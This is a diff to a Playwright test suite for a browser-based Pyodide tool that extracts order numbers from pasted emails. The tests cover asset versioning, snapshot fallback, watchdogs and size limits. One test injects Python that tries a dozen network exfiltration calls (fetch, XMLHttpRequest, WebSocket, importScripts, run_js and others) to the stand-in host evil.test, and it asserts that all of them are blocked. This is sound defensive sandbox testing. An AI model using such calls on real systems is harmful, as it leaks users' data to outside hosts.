@@ -6,8 +6,14 @@ second) and runs many mails through it. Expected values are written here by hand
 
 from __future__ import annotations
 
+import gzip
 import hashlib
+import http.server
+import json
 import re
+import threading
+import zipfile
+from functools import partial
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -138,7 +144,10 @@ def assert_results(page, orders, tracking, products, not_aliexpress) -> None:
 
 def assert_clean(watched) -> None:
     assert watched.console_errors == [], watched.console_errors
-    assert watched.failed_requests == [], watched.failed_requests
+    # On a first visit the worker asks the HTTP cache alone for the snapshot (only-if-cached); the
+    # miss is reported as a failed request. Any other failure, and any HTTP error, counts.
+    failed = [entry for entry in watched.failed_requests if not re.fullmatch(rf"failed .*{SNAPSHOT}\?v=\w+", entry)]
+    assert failed == [], failed
     assert watched.foreign_requests == [], watched.foreign_requests
 
 
@@ -193,18 +202,45 @@ def test_tool_markup_is_in_the_built_page(site_dir: Path, lang: str) -> None:
 
 
 def test_runtime_and_extractor_are_shipped_once(site_dir: Path) -> None:
+    runtimes = list((site_dir / "assets" / "pyodide").iterdir())
+    assert len(runtimes) == 1 and re.fullmatch(r"[0-9a-f]{10}", runtimes[0].name), runtimes
     for name in ("pyodide.mjs", "pyodide.asm.mjs", "pyodide.asm.wasm", "python_stdlib.zip", "pyodide-lock.json"):
-        assert (site_dir / "assets" / "pyodide" / name).is_file(), name
+        assert (runtimes[0] / name).is_file(), name
+    # Precompressed for hosts with gzip_static, and the same bytes once inflated.
+    wasm = (runtimes[0] / "pyodide.asm.wasm").read_bytes()
+    assert gzip.decompress((runtimes[0] / "pyodide.asm.wasm.gz").read_bytes()) == wasm
+    # The trimmed standard library is much smaller than Pyodide's, and has what the extractor needs.
+    full = ROOT / "node_modules" / "pyodide" / "python_stdlib.zip"
+    trimmed = runtimes[0] / "python_stdlib.zip"
+    assert trimmed.stat().st_size < 0.7 * full.stat().st_size
+    with zipfile.ZipFile(trimmed) as archive:
+        tops = {name.split("/")[0] for name in archive.namelist()}
+    assert {"email", "encodings", "html", "json", "re"} <= tops and not {"unittest", "xml", "http"} & tops
     assert not (site_dir / "en" / "assets").exists(), "the runtime must not be copied per language"
     shipped = (site_dir / "assets" / "order-tool" / "order_number.py").read_bytes()
     source = (ROOT / "snippets" / "order_number.py").read_bytes()
     assert hashlib.sha256(shipped).digest() == hashlib.sha256(source).digest()
-    assert (site_dir / "assets" / "order-tool" / "python-snapshot.bin").stat().st_size > 1_000_000
+    snapshot = gzip.decompress((site_dir / "assets" / "order-tool" / "python-snapshot.bin").read_bytes())
+    assert len(snapshot) > 1_000_000
+    # L1: the published snapshot names no folder of the machine that built it.
+    assert str(ROOT).encode() not in snapshot and b"order_tool_snapshot.mjs" not in snapshot
     tool_js = (site_dir / "assets" / "order-tool" / "tool.js").read_text(encoding="utf-8")
     worker_js = (site_dir / "assets" / "order-tool" / "worker.js").read_text(encoding="utf-8")
     assert not re.search(r"\.(inner|outer)HTML\s*=|insertAdjacentHTML|document\.write", tool_js)
     assert not re.search(r"(localStorage|sessionStorage|indexedDB|document\.cookie)\b\s*[.=\[]", tool_js)
-    assert "jsdelivr" not in worker_js and "indexURL: PYODIDE_URL" in worker_js and "packageBaseUrl: PYODIDE_URL" in worker_js
+    assert "jsdelivr" not in worker_js and "indexURL: runtime" in worker_js and "packageBaseUrl: runtime" in worker_js
+
+
+def test_tool_css_and_assets_are_versioned_and_only_on_the_tool_page(site_dir: Path) -> None:
+    tool_page = (site_dir / TOOL_PAGE["sv"].strip("/") / "index.html").read_text(encoding="utf-8")
+    for name in ("tool.css", "tool.js"):
+        assert re.search(rf'/assets/order-tool/{re.escape(name)}\?v=[0-9a-f]{{10}}"', tool_page), name
+    assert re.search(r'"runtime": "\.\./assets/pyodide/[0-9a-f]{10}/"', tool_page)
+    head = tool_page.split("</head>")[0]
+    assert re.search(r'<link rel="stylesheet" href="\.\./assets/order-tool/tool\.css\?v=[0-9a-f]{10}">', head)
+    assert '<div data-search-exclude><div class="order-tool" data-order-tool>' in tool_page
+    for other in ("index.html", "hitta-ordernumret/index.html", "en/index.html"):
+        assert "tool.css" not in (site_dir / other).read_text(encoding="utf-8"), other
 
 
 # ------------------------------------------------------------------------------------------ the browser
@@ -244,7 +280,7 @@ def test_tool_end_to_end(open_page, axe_violations, lang: str) -> None:
     history = states(page)
     assert history[:2] == ["idle", "loading"] and set(history) <= STATES, history
     assert history.index("working") > history.index("loading")
-    assert any(f"{RUNTIME}pyodide.asm.wasm" in url for url in watched.requests)
+    assert any(re.search(rf"{RUNTIME}[0-9a-f]{{10}}/pyodide\.asm\.wasm$", url) for url in watched.requests)
 
     # Focus went to the results, which name where the number was found (the label in bold).
     assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
@@ -372,3 +408,273 @@ def test_screenshots_and_axe_with_results(open_page, axe_violations, screenshot)
             screenshot(page, f"tool-sv-{size}-{scheme}")
             assert_clean(watched)
             watched.context.close()
+
+
+# ------------------------------------------------------------------------------------------ issue 9: a light page
+
+
+@pytest.mark.parametrize("lang", ["sv", "en"])
+def test_tool_page_is_light_and_shows_the_code_when_opened(open_page, lang: str) -> None:
+    watched = open_page(TOOL_PAGE[lang], viewport=VIEWPORTS["phone"])
+    page = watched.page
+    nodes = page.evaluate("document.getElementsByTagName('*').length")
+    assert nodes < 1500, f"{nodes} elements before the reader opens anything"
+    code = page.locator("[data-source-code]")
+    assert code.inner_text() == ""  # not even fetched before the reader asks
+    assert not any("order_number.py" in url for url in watched.requests)
+    page.locator("details", has=code).locator("summary").click()
+    page.wait_for_function("() => document.querySelector('[data-source-code]').textContent.length > 10000")
+    shown_code = page.evaluate("document.querySelector('[data-source-code]').textContent")
+    assert shown_code == (ROOT / "snippets" / "order_number.py").read_text(encoding="utf-8")
+    assert python_requests(watched) == []  # reading the code starts no Python
+    assert_clean(watched)
+
+
+def test_result_is_brought_into_view_on_a_phone(open_page) -> None:
+    watched = open_tool(open_page, "sv", viewport=VIEWPORTS["phone"], permissions=["clipboard-read", "clipboard-write"])
+    page = watched.page
+    assert paste(page, TYPICAL) == "done"
+    # Scrolling may be smooth: wait for it to settle with the heading on screen, and focus on it.
+    page.wait_for_function(
+        """() => { const box = document.querySelector('.order-tool__heading').getBoundingClientRect();
+                   return box.top >= 0 && box.bottom <= window.innerHeight; }""",
+        timeout=5000,
+    )
+    assert page.evaluate("document.activeElement.classList.contains('order-tool__heading')")
+    assert page.locator('[data-testid="order-number"]').is_visible()
+    assert_clean(watched)
+
+
+# ------------------------------------------------------------------------------------------ issue 11: any host
+
+# Run in the worker, after Python is ready: every way Python (or JavaScript made by Python) could
+# reach the network. Each must raise; none may send a request.
+EXFILTRATION = r"""
+import js, pyodide.http, pyodide.code
+tried = {}
+def attempt(name, action):
+    try:
+        action()
+        tried[name] = "no error"
+    except BaseException as error:
+        tried[name] = type(error).__name__
+def xhr():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", "http://evil.test/xhr", False)
+    request.send()
+attempt("js.fetch", lambda: js.fetch("http://evil.test/fetch?mail=secret"))
+attempt("prototype fetch", lambda: js.Object.getPrototypeOf(js.self).fetch.call(js.self, "http://evil.test/proto"))
+attempt("pyfetch", lambda: pyodide.http.pyfetch("http://evil.test/pyfetch").send(None))
+attempt("open_url", lambda: pyodide.http.open_url("http://evil.test/open_url"))
+attempt("XMLHttpRequest", xhr)
+attempt("WebSocket", lambda: js.WebSocket.new("ws://evil.test/ws"))
+attempt("EventSource", lambda: js.EventSource.new("http://evil.test/events"))
+attempt("importScripts", lambda: js.importScripts("http://evil.test/script.js"))
+attempt("Worker", lambda: js.Worker.new("http://evil.test/worker.js"))
+attempt("eval import()", lambda: js.eval("import('http://evil.test/eval.mjs')"))
+attempt("run_js", lambda: pyodide.code.run_js("fetch('http://evil.test/run_js')"))
+attempt("Function", lambda: js.Function.new("return fetch('http://evil.test/function')")())
+# Not tried: js.Function.new("return import('http://…')"). Pyodide needs Function, so the worker
+# cannot refuse it; only a CSP header (site/_headers) closes that last path.
+import json
+json.dumps(tried)
+"""
+
+# Appended to worker.js for this test only: once Python is ready (and the network cut), run
+# EXFILTRATION in the worker's own interpreter and post the report to the page, where RECORD_REPORT
+# keeps it. (Playwright's worker.evaluate cannot be used: it needs eval, which the worker switched off.)
+EXPOSE_PYTHON = """
+self.addEventListener("message", (event) => {
+  if (event.data.type !== "init") return;  // the worker's own listener has just set `started`
+  started.then(() => setTimeout(() => {
+    let json;
+    try {
+      json = self.__testPyodide.runPython(%s);
+    } catch (error) {
+      json = JSON.stringify({failed: String(error)});
+    }
+    self.postMessage({type: "exfiltration-test", json});
+  }, 0));
+});
+"""
+# Where worker.js makes its interpreter (a first visit starts plain), kept for the code above.
+PLAIN_START = "const pyodide = await loadPyodide(options);"
+
+
+def fulfill_changed(route, change) -> None:
+    """Answer with the real response, its text changed (and so its length: no Content-Length)."""
+    response = route.fetch()
+    headers = {name: value for name, value in response.headers.items() if name.lower() != "content-length"}
+    route.fulfill(status=response.status, headers=headers, body=change(response.text()))
+
+
+RECORD_REPORT = """
+window.__reports = [];
+const PageWorker = window.Worker;
+window.Worker = class extends PageWorker {
+  constructor(...args) {
+    super(...args);
+    this.addEventListener("message", (event) => {
+      if (event.data.type === "exfiltration-test") window.__reports.push(event.data.json);
+    });
+  }
+};
+"""
+
+
+class _BareHandler(http.server.SimpleHTTPRequestHandler):
+    """A host that sends no headers of its own: no CSP, as GitHub Pages does."""
+
+    extensions_map = {**http.server.SimpleHTTPRequestHandler.extensions_map, ".mjs": "text/javascript",
+                      ".js": "text/javascript", ".wasm": "application/wasm"}
+
+    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - stdlib signature
+        pass
+
+
+@pytest.fixture(scope="module")
+def bare_server_url(site_dir: Path):
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_BareHandler, directory=str(site_dir)))
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+
+
+def test_nothing_leaves_on_a_host_without_headers(browser, bare_server_url: str) -> None:
+    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
+    seen: list[str] = []
+    context.on("request", lambda request: seen.append(request.url))  # pages and workers alike
+    # Foreign requests must not even reach the router: the router would only hide a leak.
+    appended = EXPOSE_PYTHON % json.dumps(EXFILTRATION)
+    def expose(js: str) -> str:
+        assert js.count(PLAIN_START) == 1, "worker.js changed: update PLAIN_START"
+        return js.replace(PLAIN_START, PLAIN_START + " self.__testPyodide = pyodide;") + appended
+
+    context.route("**/order-tool/worker.js*", lambda route: fulfill_changed(route, expose))
+    page = context.new_page()
+    page.add_init_script(RECORD_REPORT)
+    with_config(page, {"snapshotPolicy": "never"})  # a plain start, where PLAIN_START keeps the interpreter
+    page.add_init_script(STATE_RECORDER)
+    response = page.goto(bare_server_url + TOOL_PAGE["en"], wait_until="load")
+    assert "content-security-policy" not in response.headers
+    assert paste(page, TYPICAL) == "done"
+    page.wait_for_timeout(1500)  # anything sent asynchronously would show up by now
+    reports = page.evaluate("window.__reports")
+    assert len(reports) == 1, reports
+    tried = json.loads(reports[0])
+    assert "failed" not in tried, tried["failed"]
+    assert [url for url in seen if "evil.test" in url] == []
+    assert set(tried) == {"js.fetch", "prototype fetch", "pyfetch", "open_url", "XMLHttpRequest", "WebSocket",
+                          "EventSource", "importScripts", "Worker", "eval import()", "run_js", "Function"}
+    assert "no error" not in tried.values(), tried
+    # The tool itself still works, without the network.
+    assert paste(page, SWEDISH) == "done"
+    assert shown(page, "order-number") == ["8174523690147852"]
+    context.close()
+
+
+# ------------------------------------------------------------------------------------------ the snapshot
+
+SNAPSHOT_ROUTE = "**/order-tool/python-snapshot.bin*"
+
+
+def with_config(page, changes: dict[str, object]) -> None:
+    """Serve the tool page with some of its config changed (e.g. the snapshot policy)."""
+
+    def rewrite(html: str) -> str:
+        for key, value in changes.items():
+            html, count = re.subn(rf'"{key}": ("[^"]*"|\d+)', f'"{key}": {json.dumps(value)}', html)
+            assert count == 1, key
+        return html
+
+    page.route(re.compile(r".*/ordernummer-ur-mejl/$"), lambda route: fulfill_changed(route, rewrite))
+
+
+@pytest.mark.parametrize("snapshot", ["real", "blocked", "not gzip", "garbage in gzip"])
+def test_snapshot_or_fallback_reaches_a_result(open_page, snapshot: str) -> None:
+    watched = open_page(None, permissions=["clipboard-read", "clipboard-write"])
+    watched.context.add_init_script(STATE_RECORDER)
+    page = watched.page
+    with_config(page, {"snapshotPolicy": "always"})  # fetch it up front, as on a warm start
+    if snapshot == "blocked":
+        page.context.route(SNAPSHOT_ROUTE, lambda route: route.abort())
+    elif snapshot == "not gzip":
+        page.context.route(SNAPSHOT_ROUTE, lambda route: route.fulfill(body=b"\x1f\x8b not really gzip"))
+    elif snapshot == "garbage in gzip":
+        page.context.route(SNAPSHOT_ROUTE, lambda route: route.fulfill(body=gzip.compress(b"\0" * 100_000)))
+    watched.goto(TOOL_PAGE["sv"])
+    assert paste(page, TYPICAL) == "done"
+    assert_results(page, *PASTED["typical"][1:])
+    expected = "snapshot" if snapshot == "real" else "plain"
+    assert page.get_attribute("[data-order-tool]", "data-python") == expected
+
+
+# ------------------------------------------------------------------------------------------ issue 13: never stuck
+
+# The review's worst case (H1): about 1 MB of RFC 2047 encoded words in the subject.
+ENCODED_WORDS = ("From: AliExpress <transaction@notice.aliexpress.com>\nSubject: "
+                 + "=?utf-8?b?T3JkZXIgSUQ6IDgxMjM0NTY3ODkwMTIzNDU=?= " * 21_000 + "\n\nHello\n")
+
+# A paste that does not wait for its run (the next one cancels it).
+PASTE_NOW = """(text) => {
+  const input = document.querySelector('[data-testid="order-input"]');
+  input.value = text;
+  input.dispatchEvent(new ClipboardEvent("paste", {bubbles: true, cancelable: true}));
+}"""
+
+
+def test_worst_case_then_a_normal_mail_gets_its_answer(open_page) -> None:
+    watched = open_tool(open_page, "en", permissions=["clipboard-read", "clipboard-write"])
+    page = watched.page
+    assert paste(page, SWEDISH) == "done"  # Python is ready
+    assert len(ENCODED_WORDS) > 1_000_000
+    before = finished_runs(page)
+    page.evaluate(PASTE_NOW, ENCODED_WORDS)
+    page.wait_for_timeout(600)  # the hostile run is under way
+    page.evaluate(PASTE_NOW, TYPICAL)
+    wait_for_run(page, before, timeout=60_000)
+    page.wait_for_function("() => document.querySelector('[data-testid=\"order-status\"]').dataset.state === 'done'"
+                           " && document.querySelector('[data-testid=\"order-number\"]')", timeout=60_000)
+    assert_results(page, *PASTED["typical"][1:])
+    assert_clean(watched)
+
+
+@pytest.mark.parametrize("lang", ["sv", "en"])
+def test_watchdog_ends_a_run_past_its_budget(open_page, lang: str) -> None:
+    watched = open_page(None, permissions=["clipboard-read", "clipboard-write"])
+    watched.context.add_init_script(STATE_RECORDER)
+    page = watched.page
+    with_config(page, {"runBudgetMs": 150})  # so that any big mail passes it, however fast the extractor
+    watched.goto(TOOL_PAGE[lang])
+    strings = json.loads(page.inner_text("#order-tool-strings"))
+    assert paste(page, SWEDISH) == "done"
+    workers_before = sum("order-tool/worker.js" in url for url in watched.requests)
+    before = finished_runs(page)
+    big = ENCODED_WORDS * 4  # about 4.6 MB, under the 5 MB limit
+    page.evaluate(PASTE_NOW, big)
+    assert wait_for_run(page, before, timeout=60_000) == "error"
+    assert page.inner_text('[data-testid="order-status"]') == strings["error_too_hard"]
+    assert page.input_value(INPUT) == big  # the reader's text stays
+    # The stuck worker was ended and a new one started.
+    page.wait_for_function("() => document.querySelector('[data-order-tool]').dataset.python !== undefined")
+    assert sum("order-tool/worker.js" in url for url in watched.requests) == workers_before + 1
+    assert_clean(watched)
+
+
+def test_a_paste_over_the_limit_is_refused_at_once(open_page) -> None:
+    watched = open_tool(open_page, "en")
+    page = watched.page
+    strings = json.loads(page.inner_text("#order-tool-strings"))
+    before = finished_runs(page)
+    page.evaluate(PASTE_NOW, "Order ID: 8123456789012345\n" + "x" * (5 * 1024 * 1024))
+    assert wait_for_run(page, before, timeout=10_000) == "error"
+    assert page.inner_text('[data-testid="order-status"]') == strings["error_too_large"].replace("{size}", "5 MB")
+
+
+def test_without_javascript_only_the_way_by_hand_shows(open_page) -> None:
+    watched = open_page(TOOL_PAGE["sv"], java_script_enabled=False)
+    page = watched.page
+    assert not page.locator("[data-order-form]").is_visible()
+    assert not page.locator(STATUS).is_visible()
+    assert page.locator(".order-tool__noscript a[href$='hitta-ordernumret/']").is_visible()
